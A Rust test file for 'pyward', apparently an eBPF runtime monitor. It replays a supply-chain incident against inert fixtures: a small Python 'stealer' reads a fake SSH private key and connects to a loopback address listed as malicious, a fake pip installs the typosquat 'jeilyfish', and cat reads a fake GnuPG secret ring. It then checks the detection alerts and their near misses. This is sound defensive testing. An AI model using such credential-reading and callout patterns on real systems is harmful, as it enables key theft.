//! The four runtime rules of incident 1 (jeIlyfish / python3-dateutil) under `pyward run`
//! against the real kernel, each next to its near miss, and the recording of that session
//! replayed through `pyward rules replay` to the same alerts.
//!
//! Gated by PYWARD_BPF_TESTS=1 (root, eBPF): when set, a sensor that does not load fails the
//! test; when unset, each test prints that it was skipped. Everything is inert:
//! - the "keys" are text files in a fake home made under /home (the rules match
//!   `/home/*/.ssh/*` and `/home/*/.gnupg/*`) and removed after;
//! - the "attacker" is a TCP listener of this test on 127.0.0.77, added to
//!   `pyward_malicious_ips` by an extra rules file (`override: items: append`), exactly as a
//!   user extends the list; the near miss connects to a listener on 127.0.0.78, not listed;
//! - `pip` is a two-line shell script in a temporary folder, put first on PATH.
//!
//! The near misses are checked to have really happened (the recording holds ssh-keygen's
//! open of the key, gpg's open of its keyring, the exec of `pip install jellyfish` and the
//! connect to 127.0.0.78), so "no alert" cannot pass because an action silently failed.

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::Value;

const CONNECT_RULE: &str = "Outbound Connection to Known-Malicious IP";
const PIP_RULE: &str = "Known-Malicious Python Package Installed";
const SSH_RULE: &str = "SSH Information Read by Non-SSH Program";
const GPG_RULE: &str = "GPG Keys Read by Non-GPG Program";

/// The loopback address the test lists as malicious, and one it does not.
const EVIL_IP: &str = "127.0.0.77";
const BENIGN_IP: &str = "127.0.0.78";

fn enabled(test: &str) -> bool {
    if std::env::var("PYWARD_BPF_TESTS").as_deref() == Ok("1") {
        true
    } else {
        // Straight to stderr (the harness captures eprintln!): a skip is visible.
        use std::io::Write;
        let _ = writeln!(
            std::io::stderr(),
            "SKIPPED {test}: set PYWARD_BPF_TESTS=1 (as root) to run the eBPF tests"
        );
        false
    }
}

fn pyward() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_pyward"));
    c.env(
        "PYWARD_DATA_DIR",
        std::env::temp_dir().join("pyward-tests-empty-data"),
    )
    .env("NO_COLOR", "1");
    c
}

fn pyward_rules() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/pyward_rules.yaml")
}

/// The system Python (not a version-manager shim, whose wrapper processes would show up
/// as extra parents), else whatever `python3` is on PATH.
fn python() -> String {
    ["/usr/bin/python3", "/usr/local/bin/python3"]
        .iter()
        .find(|p| Path::new(p).exists())
        .map_or_else(|| "python3".to_owned(), |p| (*p).to_owned())
}

/// Everything one incident-1 session needs: a fake home with inert SSH and GPG files, a
/// fake `pip`, two loopback listeners, the extra rules file listing [`EVIL_IP`] and the
/// driver script. Dropping it removes the home and closes the listeners.
struct Scenario {
    home: tempfile::TempDir,
    work: tempfile::TempDir,
    _evil: TcpListener,
    _benign: TcpListener,
    evil_port: u16,
    benign_port: u16,
}

impl Scenario {
    fn new() -> Scenario {
        let home = tempfile::Builder::new()
            .prefix("pyward-test-home-")
            .tempdir_in("/home")
            .expect("create a fake home under /home (root needed)");
        let h = home.path();
        std::fs::create_dir(h.join(".ssh")).unwrap();
        std::fs::write(h.join(".ssh/id_rsa"), "INERT TEST FIXTURE, NOT A KEY\n").unwrap();
        // A real throw-away key (made here, never used) so that the near miss
        // `ssh-keygen -l` succeeds, which proves it read the file.
        let st = Command::new("ssh-keygen")
            .args(["-q", "-t", "ed25519", "-N", "", "-C", "pyward-test", "-f"])
            .arg(h.join(".ssh/id_ed25519"))
            .status()
            .expect("run ssh-keygen (apt-get install openssh-client)");
        assert!(st.success(), "ssh-keygen could not make a throw-away key");
        std::fs::create_dir(h.join(".gnupg")).unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(h.join(".gnupg"), std::fs::Permissions::from_mode(0o700)).unwrap();
        std::fs::write(h.join(".gnupg/secring.gpg"), "INERT TEST FIXTURE\n").unwrap();
        // gpg creates its empty keyring once, outside the watched run, so that under the
        // run it only reads it.
        let o = Command::new("gpg")
            .arg("--homedir")
            .arg(h.join(".gnupg"))
            .args(["--batch", "--list-keys"])
            .output()
            .expect("run gpg (apt-get install gnupg)");
        assert!(o.status.success(), "gpg --list-keys: {o:?}");

        // Out of /tmp, so the tmp-execution rules stay out of the picture.
        let work = tempfile::Builder::new()
            .prefix("incident1-")
            .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
            .unwrap();
        let bin = work.path().join("bin");
        std::fs::create_dir(&bin).unwrap();
        std::fs::write(
            bin.join("pip"),
            "#!/bin/sh\n# inert stand-in for pip\nexit 0\n",
        )
        .unwrap();
        std::fs::set_permissions(bin.join("pip"), std::fs::Permissions::from_mode(0o755)).unwrap();
        std::fs::write(
            work.path().join("intel.yaml"),
            format!(
                "- list: pyward_malicious_ips\n  items: [\"{EVIL_IP}\"]\n  override:\n    items: append\n"
            ),
        )
        .unwrap();

        let evil = TcpListener::bind((EVIL_IP, 0)).expect("listen on 127.0.0.77");
        let benign = TcpListener::bind((BENIGN_IP, 0)).expect("listen on 127.0.0.78");
        let evil_port = evil.local_addr().unwrap().port();
        let benign_port = benign.local_addr().unwrap().port();
        Scenario {
            home,
            work,
            _evil: evil,
            _benign: benign,
            evil_port,
            benign_port,
        }
    }

    fn home(&self) -> &Path {
        self.home.path()
    }

    fn key(&self) -> String {
        self.home().join(".ssh/id_rsa").display().to_string()
    }

    fn gpg_file(&self) -> String {
        self.home().join(".gnupg/secring.gpg").display().to_string()
    }

    fn gnupg(&self) -> String {
        self.home().join(".gnupg").display().to_string()
    }

    fn rules_args(&self) -> Vec<PathBuf> {
        vec![pyward_rules(), self.work.path().join("intel.yaml")]
    }

    /// The shell script run under `pyward run`: each incident-1 step, then its near miss.
    fn driver(&self) -> PathBuf {
        let stealer = "import socket,sys\n\
             data = open(sys.argv[1], 'rb').read()\n\
             s = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=10)\n\
             s.close()\n";
        std::fs::write(self.work.path().join("stealer.py"), stealer).unwrap();
        let connect_only = "import socket,sys\n\
             s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10)\n\
             s.close()\n";
        std::fs::write(self.work.path().join("connect.py"), connect_only).unwrap();
        let py = python();
        let w = self.work.path().display();
        let script = format!(
            "set -e\n\
             export HOME='{home}'\n\
             export PATH='{w}/bin':\"$PATH\"\n\
             # (c)+(a): read the fake private key, then call the listed address.\n\
             {py} '{w}/stealer.py' \"$HOME/.ssh/id_rsa\" {EVIL_IP} {evil_port}\n\
             # near miss (c): an SSH tool reading its own keys.\n\
             ssh-keygen -l -f \"$HOME/.ssh/id_ed25519\" > /dev/null\n\
             # near miss (a): a loopback address that is not listed.\n\
             {py} '{w}/connect.py' {BENIGN_IP} {benign_port}\n\
             # (b) and its near miss.\n\
             pip install jeilyfish\n\
             pip install jellyfish\n\
             # (d) and its near miss.\n\
             cat \"$HOME/.gnupg/secring.gpg\" > /dev/null\n\
             gpg --homedir \"$HOME/.gnupg\" --batch --list-keys > /dev/null\n",
            home = self.home().display(),
            evil_port = self.evil_port,
            benign_port = self.benign_port,
        );
        let p = self.work.path().join("driver.sh");
        std::fs::write(&p, script).unwrap();
        p
    }

    /// Run the driver under `pyward run` with every matching rule reported; returns the
    /// process output, the alerts and the recorded events.
    fn run(&self) -> (Output, Vec<Value>, Vec<Value>) {
        let driver = self.driver();
        let alerts = self.work.path().join("alerts.jsonl");
        let record = self.work.path().join("events.jsonl");
        let mut cmd = pyward();
        cmd.args(["run", "--no-intel", "--rule-matching", "all", "--stats"]);
        for r in self.rules_args() {
            cmd.arg("--rules").arg(r);
        }
        let o = cmd
            .arg("--alerts")
            .arg(&alerts)
            .arg("--record")
            .arg(&record)
            .args(["--", "sh"])
            .arg(&driver)
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&o.stderr);
        assert!(
            stderr.contains("eBPF sensor loaded"),
            "PYWARD_BPF_TESTS=1 but the sensor did not load: {stderr}"
        );
        assert_eq!(
            o.status.code(),
            Some(0),
            "the driver script failed (a step did not run): {stderr}"
        );
        assert!(
            !stderr.contains("LOST"),
            "events were lost; the test cannot judge: {stderr}"
        );
        (o, json_lines(&alerts), recorded_events(&record))
    }
}

/// The recording's events, process references resolved (as `pyward rules replay` reads it).
fn recorded_events(path: &Path) -> Vec<Value> {
    let mut reader = pyward_rules::ReplayReader::new();
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| {
            reader
                .parse_line(l)
                .unwrap_or_else(|e| panic!("bad recorded line {l:?}: {e}"))
        })
        .map(|ev| serde_json::to_value(&ev).unwrap())
        .collect()
}

fn json_lines(path: &Path) -> Vec<Value> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("bad JSON line {l:?}: {e}")))
        .collect()
}

fn of_rule<'a>(all: &'a [Value], rule: &str) -> Vec<&'a Value> {
    all.iter().filter(|a| a["rule"] == rule).collect()
}

fn field<'a>(a: &'a Value, name: &str) -> &'a Value {
    &a["output_fields"][name]
}

fn tags(a: &Value) -> Vec<&str> {
    a["tags"]
        .as_array()
        .map(|t| t.iter().filter_map(Value::as_str).collect())
        .unwrap_or_default()
}

fn assert_tags(a: &Value, want: &[&str]) {
    let t = tags(a);
    for w in want {
        assert!(t.contains(w), "tag {w} missing in {t:?} of {a:#}");
    }
}

/// Whether the recording holds a successful open by `comm` of a path starting with `prefix`.
fn recorded_open(events: &[Value], comm: &str, prefix: &str) -> bool {
    events.iter().any(|e| {
        e["type"].as_str().is_some_and(|t| t.starts_with("open"))
            && e["proc"]["name"] == comm
            && e["res"].as_i64().is_some_and(|r| r >= 0)
            && e["fd"]["name"]
                .as_str()
                .is_some_and(|n| n.starts_with(prefix))
    })
}

#[test]
fn incident1_rules_fire_and_their_near_misses_do_not() {
    if !enabled("incident1_rules_fire_and_their_near_misses_do_not") {
        return;
    }
    let sc = Scenario::new();
    let (o, alerts, events) = sc.run();
    let stderr = String::from_utf8_lossy(&o.stderr);
    let ctx = || format!("alerts: {alerts:#?}\nstderr: {stderr}");

    // (a) the connect to the listed address, and only that one.
    let hits = of_rule(&alerts, CONNECT_RULE);
    assert_eq!(hits.len(), 1, "one malicious-IP alert expected; {}", ctx());
    let a = hits[0];
    assert_eq!(a["priority"], "Critical");
    assert_eq!(field(a, "fd.sip"), EVIL_IP);
    assert_eq!(field(a, "fd.sport"), u64::from(sc.evil_port));
    assert_eq!(field(a, "fd.l4proto"), "tcp");
    assert_eq!(field(a, "evt.type"), "connect");
    assert!(
        field(a, "proc.name")
            .as_str()
            .is_some_and(|n| n.starts_with("python")),
        "{a:#}"
    );
    assert!(field(a, "proc.cmdline")
        .as_str()
        .is_some_and(|c| c.contains("stealer.py")));
    assert_tags(
        a,
        &[
            "network",
            "mitre_command_and_control",
            "mitre_exfiltration",
            "T1071",
            "T1105",
            "T1041",
        ],
    );
    // Near miss (a): the unlisted address was really connected to, without alert.
    assert!(
        events.iter().any(|e| e["type"] == "connect"
            && e["fd"]["sip"] == BENIGN_IP
            && e["fd"]["sport"] == u64::from(sc.benign_port)),
        "the recording lacks the connect to {BENIGN_IP}"
    );

    // (c) SSH key read by python, not by ssh-keygen.
    let hits = of_rule(&alerts, SSH_RULE);
    assert_eq!(
        hits.len(),
        1,
        "one SSH alert (python's read) expected; {}",
        ctx()
    );
    let a = hits[0];
    assert_eq!(a["priority"], "Error");
    assert_eq!(field(a, "fd.name"), sc.key().as_str());
    assert!(field(a, "proc.name")
        .as_str()
        .is_some_and(|n| n.starts_with("python")));
    assert_eq!(field(a, "proc.pname"), "sh");
    assert_eq!(field(a, "user.uid"), 0);
    assert_tags(
        a,
        &[
            "filesystem",
            "mitre_credential_access",
            "T1552.004",
            "T1005",
        ],
    );
    let ssh_dir = format!("{}/.ssh/", sc.home().display());
    assert!(
        recorded_open(&events, "ssh-keygen", &ssh_dir),
        "near miss not exercised: the recording lacks ssh-keygen opening a file under {ssh_dir}"
    );

    // (b) pip with the typosquat, not with the real name.
    let hits = of_rule(&alerts, PIP_RULE);
    assert_eq!(
        hits.len(),
        1,
        "one pip alert (jeilyfish) expected; {}",
        ctx()
    );
    let a = hits[0];
    assert_eq!(a["priority"], "Critical");
    assert_eq!(field(a, "proc.name"), "pip");
    assert_eq!(field(a, "evt.type"), "execve");
    let cmdline = field(a, "proc.cmdline").as_str().unwrap_or_default();
    assert!(
        cmdline.ends_with("install jeilyfish"),
        "proc.cmdline {cmdline:?}"
    );
    assert_tags(
        a,
        &[
            "process",
            "software_supply_chain",
            "mitre_initial_access",
            "T1195.002",
        ],
    );
    assert!(
        events.iter().any(|e| e["type"] == "execve"
            && e["proc"]["name"] == "pip"
            && e["proc"]["args"]
                .as_array()
                .is_some_and(|a| a.iter().any(|x| x == "jellyfish"))),
        "near miss not exercised: no exec of `pip install jellyfish` recorded"
    );

    // (d) a GnuPG file read by cat, not by gpg.
    let hits = of_rule(&alerts, GPG_RULE);
    assert_eq!(
        hits.len(),
        1,
        "one GPG alert (cat's read) expected; {}",
        ctx()
    );
    let a = hits[0];
    assert_eq!(a["priority"], "Error");
    assert_eq!(field(a, "fd.name"), sc.gpg_file().as_str());
    assert_eq!(field(a, "proc.name"), "cat");
    assert_eq!(field(a, "proc.exepath"), "/usr/bin/cat");
    assert_eq!(field(a, "proc.pname"), "sh");
    assert_tags(
        a,
        &[
            "filesystem",
            "mitre_credential_access",
            "mitre_collection",
            "T1552.004",
        ],
    );
    assert!(
        recorded_open(&events, "gpg", &format!("{}/", sc.gnupg())),
        "near miss not exercised: the recording lacks gpg opening its keyring"
    );

    // Every alert carries the Falco JSON shape.
    for a in of_rule(&alerts, CONNECT_RULE)
        .into_iter()
        .chain(of_rule(&alerts, PIP_RULE))
        .chain(of_rule(&alerts, SSH_RULE))
        .chain(of_rule(&alerts, GPG_RULE))
    {
        assert_eq!(a["source"], "syscall");
        assert!(
            a["time"].as_str().is_some_and(|t| t.ends_with('Z')),
            "{a:#}"
        );
        assert!(a["output"]
            .as_str()
            .is_some_and(|o| o.contains(a["priority"].as_str().unwrap_or("?"))));
    }
}

/// The four incident-1 alerts, as (rule, output) pairs in order.
fn incident_alerts(all: &[Value]) -> Vec<(String, String)> {
    all.iter()
        .filter(|a| {
            [CONNECT_RULE, PIP_RULE, SSH_RULE, GPG_RULE]
                .iter()
                .any(|r| a["rule"] == *r)
        })
        .map(|a| {
            (
                a["rule"].as_str().unwrap_or_default().to_owned(),
                a["output"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect()
}

#[test]
fn incident1_recording_replays_to_the_same_alerts() {
    if !enabled("incident1_recording_replays_to_the_same_alerts") {
        return;
    }
    let sc = Scenario::new();
    let (_, live, _) = sc.run();
    let live = incident_alerts(&live);
    assert_eq!(
        live.len(),
        4,
        "the live session should give the four incident-1 alerts: {live:#?}"
    );

    let mut cmd = pyward();
    cmd.args([
        "rules",
        "replay",
        "--no-intel",
        "--rule-matching",
        "all",
        "--format",
        "json",
    ]);
    for r in sc.rules_args() {
        cmd.arg("--rules").arg(r);
    }
    let r = cmd
        .arg(sc.work.path().join("events.jsonl"))
        .output()
        .unwrap();
    // `rules replay` exits 1 when an alert fired.
    assert_eq!(
        r.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&r.stderr)
    );
    let replayed: Vec<Value> = String::from_utf8_lossy(&r.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("bad alert {l:?}: {e}")))
        .collect();
    // Same rules, same rendered outputs (time, fields and all), same order.
    assert_eq!(incident_alerts(&replayed), live);
}
